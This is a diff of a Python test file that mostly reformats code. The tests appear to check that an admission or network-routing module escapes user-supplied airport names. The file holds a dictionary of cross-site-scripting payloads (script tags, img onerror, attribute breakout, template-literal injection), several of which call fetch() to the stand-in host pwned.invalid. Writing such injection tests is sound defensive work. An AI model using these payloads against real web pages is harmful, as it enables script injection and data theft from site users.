@@ -29,7 +29,7 @@ PAYLOADS = {
     "backtick": "`+console.log('PWNED-backtick')+fetch('http://pwned.invalid/backtick')+`",
     "script": "<script>console.log('PWNED-script');fetch('http://pwned.invalid/script')</script>",
     "img": "<img src=x onerror=\"console.log('PWNED-img');fetch('http://pwned.invalid/img')\">",
-    "attr": "\" onmouseover=\"console.log('PWNED-attr')\" x=\"",
+    "attr": '" onmouseover="console.log(\'PWNED-attr\')" x="',
     "srcdoc": "&quot;><script>console.log('PWNED-srcdoc')</script>",
     "backslash": "\\`;console.log('PWNED-backslash');//",
 }
@@ -40,7 +40,9 @@ def fake_net(monkeypatch):
     router = FakeRouter()
     real = admission.as_router
     monkeypatch.setattr(
-        admission, "as_router", lambda n: real(n) if n is None or isinstance(n, FakeRouter) else router
+        admission,
+        "as_router",
+        lambda n: real(n) if n is None or isinstance(n, FakeRouter) else router,
     )
     monkeypatch.setattr(admission, "load_check_network", lambda source, cand, *, rule: router)
     return router
@@ -51,7 +53,9 @@ def _ports_file(tmp_path: Path, name_zh: str) -> Path:
     rows = [("szx", name_zh, "SZX", 22.639, 113.811), ("can", "广州白云", "CAN", 23.392, 113.299)]
     f.write_text(
         "id,name_zh,iata,lat,lon\n"
-        + "".join(f'{i},"{n.replace(chr(34), chr(34) * 2)}",{c},{la},{lo}\n' for i, n, c, la, lo in rows),
+        + "".join(
+            f'{i},"{n.replace(chr(34), chr(34) * 2)}",{c},{la},{lo}\n' for i, n, c, la, lo in rows
+        ),
         encoding="utf-8",
     )
     return f
